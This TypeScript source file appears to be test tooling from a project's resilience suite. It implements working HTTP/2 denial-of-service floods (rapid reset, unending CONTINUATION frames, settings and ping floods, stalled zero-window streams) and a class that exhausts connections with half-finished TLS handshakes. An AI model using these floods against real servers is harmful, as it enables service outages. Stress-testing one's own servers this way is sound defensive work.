import { Buffer } from "node:buffer";
import { connect, type TLSSocket } from "node:tls";
import { sleep } from "../../proto/process/clock.ts";
import { parseAddress } from "../../proto/words/address.ts";
import type { Papers } from "../../proto/wire/identity.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  grpcMessage,
  PREFACE,
  requestHeaders,
  resetStream,
} from "./hostile.ts";

const BATCH_FRAMES = 500;
/** Between two batches. */
const PAUSE_MS = 2;
/** Bytes of a CONTINUATION frame, which never is the last one. */
const CONTINUATION_BYTES = 80;
const STALLED_STREAMS = 100;
/** The beginning of a TLS handshake that never goes on. */
const HALF_HELLO = Buffer.from("16030100c8010000c40303", "hex");

/** What is sent after the preface, again and again; undefined: no more. */
type Flood = (method: string, batch: number) => Uint8Array | undefined;

const many = (make: (index: number) => Uint8Array) =>
  Buffer.concat(Array.from({ length: BATCH_FRAMES }, (_, index) => make(index)));
const NOTHING = Buffer.alloc(0);
const PINGS = many(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
const SETTINGS = many(() => frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])));
const ZERO_WINDOW = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));

/** Five ways to use a server of HTTP/2 up from one connection, by their names. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": (method, batch) =>
    many((index) => resetStream(method, batch * BATCH_FRAMES + index)),
  "continuations without end": (method, batch) =>
    batch === 0
      ? frame(FRAME.headers, 0, 1, requestHeaders(method))
      : many(() => frame(FRAME.continuation, 0, 1, Buffer.alloc(CONTINUATION_BYTES, 1))),
  "settings": () => SETTINGS,
  "pings": () => PINGS,
  "answers that nobody takes": (method, batch) => {
    if (batch > 0) return undefined;
    const calls = Array.from({ length: STALLED_STREAMS }, (_, index) => {
      const stream = 1 + 2 * index;
      return Buffer.concat([
        frame(FRAME.headers, END_HEADERS, stream, requestHeaders(method)),
        frame(FRAME.data, END_STREAM, stream, grpcMessage(NOTHING)),
      ]);
    });
    return Buffer.concat([ZERO_WINDOW, ...calls]);
  },
};

/** A member's connection that floods a server until it is told to end, or is cut off. Answers what it sent. */
export async function flood(
  address: string,
  papers: Papers,
  { make, method, signal }: { make: Flood; method: string; signal: AbortSignal },
): Promise<{ batches: number; isCut: boolean }> {
  const socket = await connectAs(address, papers);
  let isCut = false;
  socket.on("close", () => isCut = true);
  // What the server says is neither read nor of interest.
  socket.on("error", () => isCut = true);
  socket.pause();
  socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, NOTHING)]));
  let batches = 0;
  while (!isCut && !signal.aborted) {
    const bytes = socket.writableNeedDrain ? undefined : make(method, batches);
    if (bytes !== undefined) {
      socket.write(bytes);
      batches += 1;
    }
    await sleep(PAUSE_MS);
  }
  socket.destroy();
  return { batches, isCut };
}

function connectAs(address: string, papers: Papers): Promise<TLSSocket> {
  const { host, port } = parseAddress(address);
  return new Promise((resolve, reject) => {
    const socket = connect({
      ...{ host, port, ALPNProtocols: ["h2"], rejectUnauthorized: false },
      ...{ ca: papers.trustPem, cert: papers.certificatePem, key: papers.privateKeyPem },
    });
    socket.once("secureConnect", () => resolve(socket));
    socket.once("error", reject);
  });
}

/** Connections that never say who they are: every other one begins a handshake. All are kept open. */
export class Crowd implements Disposable {
  readonly #connections: Deno.TcpConn[] = [];

  get size(): number {
    return this.#connections.length;
  }

  /** @param size So many, one after the other. */
  async grow(address: string, size: number, signal?: AbortSignal): Promise<void> {
    const { host: hostname, port } = parseAddress(address);
    for (let index = 0; index < size && !signal?.aborted; index += 1) {
      const connection = await Deno.connect({ hostname, port });
      this.#connections.push(connection);
      // The server may have hung up already, which is what is tried.
      if (index % 2 === 1) await connection.write(HALF_HELLO).catch(() => {});
    }
  }

  [Symbol.dispose](): void {
    for (const connection of this.#connections) connection.close();
  }
}
